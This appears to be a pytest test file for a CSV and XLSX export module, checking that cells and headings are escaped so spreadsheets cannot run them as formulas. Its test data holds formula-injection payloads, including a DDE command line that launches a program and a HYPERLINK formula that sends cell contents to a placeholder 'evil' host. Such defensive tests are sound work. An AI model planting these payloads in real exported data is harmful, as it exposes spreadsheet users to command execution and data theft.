"""Written tables carry text as text: nothing in them runs."""

from __future__ import annotations

import csv
import os
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from qadesk.errors import Cancelled
from qadesk.progress import Progress
from qadesk.tabular import export
from qadesk.tabular.export import safe_text, write_table
from tests.refusals import refuses

ROWS = [
    (417, "响应时长", '=HYPERLINK("http://x")', "原因"),
    (5, "满意度", "+1", "-2"),
    (6, "@x", "\tx", "plain"),
]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-5", "@SUM(A1)", "\t=1", "\r=1", "＝1"])
def test_what_could_run_is_held_back(text: str) -> None:
    assert safe_text(text) == f"'{text}"


def test_plain_text_stays_as_it_is() -> None:
    assert safe_text("KF9999") == "KF9999"


def test_csv_opens_with_its_letters_right_and_no_formula(tmp_path: Path) -> None:
    file = tmp_path / "bad.csv"
    write_table(file, ("行号", "列", "内容", "原因"), ROWS)
    assert file.read_bytes().startswith(b"\xef\xbb\xbf")
    with file.open(encoding="utf-8-sig", newline="") as text:
        rows = list(csv.reader(text))
    assert rows[0] == ["行号", "列", "内容", "原因"]
    assert rows[1][2] == '\'=HYPERLINK("http://x")'
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)


def test_xlsx_holds_text_and_numbers_and_no_formula(tmp_path: Path) -> None:
    file = tmp_path / "bad.xlsx"
    write_table(file, ("行号", "列", "内容", "原因"), ROWS)
    sheet = openpyxl.load_workbook(file).active
    assert sheet.cell(2, 1).value == 417
    assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row} == {"n", "s"}


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_rows_are_taken_as_they_are_written_and_a_stop_leaves_what_was_there(
    tmp_path: Path, ending: str
) -> None:
    file = tmp_path / f"bad.{ending}"
    file.write_bytes(b"older")
    taken, told = 0, []

    def rows() -> Iterator[tuple[int, str]]:
        nonlocal taken
        for number in range(10_000):
            taken += 1
            yield number, "KF9999"

    progress = Progress(lambda done, total, _text: (told.append((done, total)), done and progress.cancel()))
    with pytest.raises(Cancelled):
        write_table(file, ("行号", "内容"), rows(), progress, total=10_000)
    assert told[0] == (0, 10_000)
    assert (told[-1], taken) == ((2000, 10_000), 4000)
    assert file.read_bytes() == b"older"
    assert list(tmp_path.iterdir()) == [file]


def test_a_workbook_can_still_be_stopped_while_it_is_packed(tmp_path: Path) -> None:
    told: list[tuple[int, int]] = []
    progress = Progress(
        lambda done, total, _text: (told.append((done, total)), done == 5 and progress.cancel())
    )
    with pytest.raises(Cancelled):
        write_table(tmp_path / "a.xlsx", ("行号",), ((n,) for n in range(5)), progress, total=5)
    assert told[-1] == (5, 5)
    assert list(tmp_path.iterdir()) == []


def test_what_one_sheet_cannot_hold_goes_on_the_next(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "_MOST_ROWS", 4)
    sheets = []
    for count in (0, 3, 4, 7):
        write_table(tmp_path / "a.xlsx", ("行号", "原因"), ((n, None) for n in range(count)))
        book = openpyxl.load_workbook(tmp_path / "a.xlsx")
        sheets.append([[row[0] for row in sheet.values] for sheet in book.worksheets])
    head = "行号"
    assert sheets == [
        [[head]],
        [[head, 0, 1, 2]],
        [[head, 0, 1, 2], [head, 3]],
        [[head, 0, 1, 2], [head, 3, 4, 5], [head, 6]],
    ]


def test_a_folder_that_is_not_there_is_told(tmp_path: Path) -> None:
    with refuses("file.no_folder"):
        write_table(tmp_path / "none" / "a.csv", ("a",), [])
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_headings_cannot_run_as_formulas_either(ending: str, tmp_path: Path) -> None:
    path = tmp_path / f"a{ending}"
    headings = ["=cmd|'/C calc'!A0", '=HYPERLINK("http://evil/"&A1,"CSAT")', "@SUM(1)", "+1", "工号"]
    write_table(path, headings, [["x"] * 5])
    if ending == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            written = next(csv.reader(file))
    else:
        sheet = openpyxl.load_workbook(path).worksheets[0]
        written = [str(cell.value) for cell in sheet[1]]
        assert all(cell.data_type == "s" for cell in sheet[1])
    assert written == [*(f"'{heading}" for heading in headings[:4]), "工号"]


@pytest.mark.skipif(os.name == "nt", reason="Windows has no limit to set")
def test_a_disk_that_fails_while_a_workbook_is_packed_is_told(tmp_path: Path) -> None:
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    rows = [[os.urandom(30).hex() for _ in range(4)] for _ in range(200)]
    for most in (0, 500, 5_000, 20_000):
        resource.setrlimit(resource.RLIMIT_FSIZE, (most, hard))
        try:
            with refuses("file.disk_failed"):
                write_table(tmp_path / "a.xlsx", ["a", "b", "c", "d"], rows)
        finally:
            resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        assert list(tmp_path.iterdir()) == []
